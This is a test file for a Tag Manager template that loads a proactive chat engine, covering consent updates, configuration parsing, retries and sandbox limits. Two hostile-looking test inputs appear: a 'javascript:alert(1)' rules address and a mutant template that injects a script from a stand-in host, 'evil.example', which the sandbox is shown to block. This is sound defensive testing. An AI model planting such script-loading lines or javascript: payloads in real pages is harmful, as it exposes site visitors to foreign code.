import { createPretendPage } from '../../../src/gtm/pretendPage.ts';
import type { PretendPage, PretendPageOptions } from '../../../src/gtm/pretendPage.ts';
import { installTemplate } from '../../../src/gtm/sandboxRun.ts';
import type { InstalledTemplate } from '../../../src/gtm/sandboxRun.ts';
import { readTemplate } from '../../../src/gtm/template.ts';
import { parseConfig } from '../../../src/tag/config.ts';
import { describeConfigProblems } from '../../../src/tag/configProblems.ts';
import { edited, engineUrl, formData, templateText } from './ourTemplate.ts';

const template = readTemplate(templateText);

const open = (options?: PretendPageOptions): { page: PretendPage; tag: InstalledTemplate } => {
  const page = createPretendPage(options);
  return { page, tag: installTemplate(template, page) };
};

const queueOf = (page: PretendPage): readonly unknown[] => page.window['lcwProactiveChat'] as unknown[];

const init = (config: Readonly<Record<string, unknown>> = {}): unknown => ({
  command: 'init',
  protocol: 1,
  config: {
    widget: {
      source: 'built-in',
      appId: formData.appId,
      orgId: formData.orgId,
      orgUrl: formData.orgUrl,
    },
    consent: { default: 'granted', whenDenied: 'wait' },
    analytics: { dataLayer: 'dataLayer' },
    excludePaths: [],
    debug: false,
    ruleSet: { formatVersion: 1, id: 'shop', rules: [] },
    ...config,
  },
});

describe('the template on a page, with its real permissions', () => {
  it('queues the whole configuration as plain data, loads the engine, and completes when it has arrived', () => {
    const { page, tag } = open();
    const run = tag.fire(formData);

    expect(queueOf(page)).toEqual([init()]);
    expect(JSON.parse(JSON.stringify(queueOf(page)))).toEqual([init()]);
    expect(page.resources).toMatchObject([{ kind: 'script', url: engineUrl }]);
    expect(run.completions).toEqual([]);

    page.resources[0]?.finish(true);
    expect(run.completions).toEqual(['success']);
    expect(page.logs).toEqual([]);
  });

  it('gives the tag a configuration that it takes without complaint', () => {
    const looks = { position: 'bottom-start', colorOverride: '#0f766e', language: 'nl' };
    for (const widgetSource of ['auto', 'on-page', 'microsoft', 'built-in']) {
      const { page, tag } = open();
      tag.fire({ ...formData, ...looks, widgetSource, excludePaths: ['/checkout/**'] });
      const [entry] = queueOf(page) as { readonly config: Readonly<Record<string, unknown>> }[];
      const { config, isSound } = parseConfig(entry?.config);
      expect(isSound).toBe(true);
      const isMicrosoft = widgetSource === 'on-page' || widgetSource === 'microsoft';
      expect(describeConfigProblems(entry?.config, isMicrosoft)).toEqual([]);
      expect(config.widget.options).toEqual(isMicrosoft ? undefined : looks);
      expect(config.widget.source).toBe(widgetSource === 'on-page' ? 'microsoft' : widgetSource);
      expect(config.widget.scriptUrl).toBe(widgetSource === 'microsoft' ? formData.scriptUrl : '');
      expect(config).toMatchObject({
        excludePaths: ['/checkout/**'],
        dataLayer: 'dataLayer',
        ruleSetUrl: '',
      });
    }
  });

  it('joins a queue that the page has already filled', () => {
    const { page, tag } = open({ globals: { lcwProactiveChat: [{ command: 'pause' }] } });
    tag.fire(formData);
    expect(queueOf(page)).toEqual([{ command: 'pause' }, init()]);
  });

  it('tells a second firing as a route change and loads nothing again', () => {
    const { page, tag } = open();
    tag.fire(formData);
    page.resources[0]?.finish(true);
    const second = tag.fire(formData);

    expect(queueOf(page).slice(1)).toEqual([{ command: 'routeChange' }]);
    expect(page.resources).toHaveLength(1);
    expect(second.completions).toEqual(['success']);
  });

  it('reaches the engine after it has taken over the queue', () => {
    const { page, tag } = open();
    tag.fire(formData);
    const handled: unknown[] = [];
    const queue = page.window['lcwProactiveChat'] as unknown[];
    queue.splice(0).forEach((entry) => handled.push(entry));
    queue.push = (...entries) => handled.push(...entries);

    page.consent.update({ functionality_storage: 'denied' });
    tag.fire(formData);
    expect(handled).toEqual([
      init(),
      { command: 'consent', purposes: { functionality: false } },
      { command: 'routeChange' },
    ]);
  });

  it('stops at rules that do not parse: nothing queued, nothing loaded, one line in preview', () => {
    const { page, tag } = open({ container: { previewMode: true } });
    const run = tag.fire({ ...formData, rulesJson: '{"rules": [}' });

    expect(page.window['lcwProactiveChat']).toBeUndefined();
    expect(page.resources).toEqual([]);
    expect(run.completions).toEqual(['failure']);
    expect(page.logs).toEqual([[expect.stringContaining('the rule set is not a JSON object')]]);
  });

  it('starts on a later firing once the form is right', () => {
    const { page, tag } = open();
    tag.fire({ ...formData, appId: 'wrong' });
    tag.fire(formData);
    expect(queueOf(page)).toEqual([init()]);
    expect(page.resources).toHaveLength(1);
  });

  it('says nothing in the console outside preview mode', () => {
    const { page, tag } = open();
    expect(tag.fire({ ...formData, appId: 'wrong' }).completions).toEqual(['failure']);
    expect(page.logs).toEqual([]);
  });

  it('reports a blocked engine and loads it again on the next firing, with one configuration in the queue', () => {
    const { page, tag } = open({ container: { debugMode: true } });
    const first = tag.fire(formData);
    page.resources[0]?.finish(false);
    expect(first.completions).toEqual(['failure']);
    expect(page.logs).toEqual([[expect.stringContaining(`could not be downloaded from ${engineUrl}`)]]);

    const second = tag.fire(formData);
    page.resources[1]?.finish(true);
    expect(second.completions).toEqual(['success']);
    expect(queueOf(page)).toEqual([init({ debug: true })]);

    tag.fire(formData);
    expect(queueOf(page)[1]).toEqual({ command: 'routeChange' });
    expect(page.resources).toHaveLength(2);
  });

  it('hands on consent: denied at first, granted later, revoked', () => {
    const { page, tag } = open({
      consent: {
        functionality_storage: 'denied',
        personalization_storage: 'denied',
        analytics_storage: 'denied',
      },
    });
    tag.fire(formData);
    expect(queueOf(page)).toEqual([
      init({ consent: { default: 'ask', whenDenied: 'wait' } }),
      { command: 'consent', purposes: { functionality: false, personalization: false, analytics: false } },
    ]);

    page.consent.update({ functionality_storage: 'granted', analytics_storage: 'granted' });
    page.consent.update({ analytics_storage: 'denied' });
    expect(queueOf(page).slice(2)).toEqual([
      { command: 'consent', purposes: { functionality: true } },
      { command: 'consent', purposes: { analytics: true } },
      { command: 'consent', purposes: { analytics: false } },
    ]);
  });

  it('gives no word about purposes that did not change, so a browser signal against them stays in force', () => {
    const { page, tag } = open();
    tag.fire(formData);
    page.consent.update({ functionality_storage: 'denied', personalization_storage: 'granted' });
    expect(queueOf(page).slice(1)).toEqual([{ command: 'consent', purposes: { functionality: false } }]);
  });

  it('listens once, also after a retry and further firings', () => {
    const { page, tag } = open();
    tag.fire(formData);
    page.resources[0]?.finish(false);
    tag.fire(formData);
    tag.fire(formData);
    const before = queueOf(page).length;
    page.consent.update({ analytics_storage: 'denied' });
    expect(queueOf(page)).toHaveLength(before + 1);
  });

  it('leaves a global of another script alone', () => {
    const foreign = { push: 'mine' };
    const { page, tag } = open({ globals: { lcwProactiveChat: foreign } });
    expect(tag.fire(formData).completions).toEqual(['failure']);
    expect(page.window['lcwProactiveChat']).toBe(foreign);
    expect(foreign).toEqual({ push: 'mine' });
  });

  it('starts on a page without a data layer, and not where something else has that name', () => {
    const without = open({ globals: { dataLayer: undefined } });
    without.tag.fire(formData);
    expect(queueOf(without.page)).toHaveLength(1);
    const { page, tag } = open({ globals: { dataLayer: 'mine' }, container: { previewMode: true } });
    expect(tag.fire(formData).completions).toEqual(['failure']);
    expect(page.logs).toEqual([[expect.stringContaining('window.dataLayer is not an array')]]);
    expect(page.window['lcwProactiveChat']).toBeUndefined();
  });

  it.each([
    ['ids', { appId: undefined, orgId: 42, orgUrl: null }],
    ['rules', { rulesJson: undefined }],
    ['a rules variable', { rulesSource: 'variable', rulesVariable: null }],
    ['a rules variable that is a function', { rulesSource: 'variable', rulesVariable: () => 1 }],
    ['a rules address', { rulesSource: 'url', rulesUrl: 'javascript:alert(1)' }],
    ['the data layer name', { dataLayerName: ['dataLayer'] }],
    ['excluded paths', { excludePaths: 7 }],
    ['the looks', { colorOverride: 7, language: [], position: null }],
  ])('ends with exactly one completion whatever a variable returns for %s', (_, values) => {
    const { page, tag } = open();
    const run = tag.fire({ ...formData, ...values });
    page.resources.forEach(({ finish }) => finish(true));
    expect(run.error).toBeUndefined();
    expect(run.completions).toHaveLength(1);
  });

  it('cannot load anything but its own engine', () => {
    const mutant = readTemplate(
      edited('SANDBOXED_JS_FOR_WEB_TEMPLATE', (body) =>
        body.replace('injectScript(ENGINE_URL', "injectScript('https://evil.example/x.js'"),
      ),
    );
    const page = createPretendPage();
    const run = installTemplate(mutant, page).fire(formData);
    expect(run.error?.message).toMatch(
      /^template line \d+: prohibited script URL https:\/\/evil\.example\/x\.js/,
    );
    expect(page.resources).toEqual([]);
  });
});
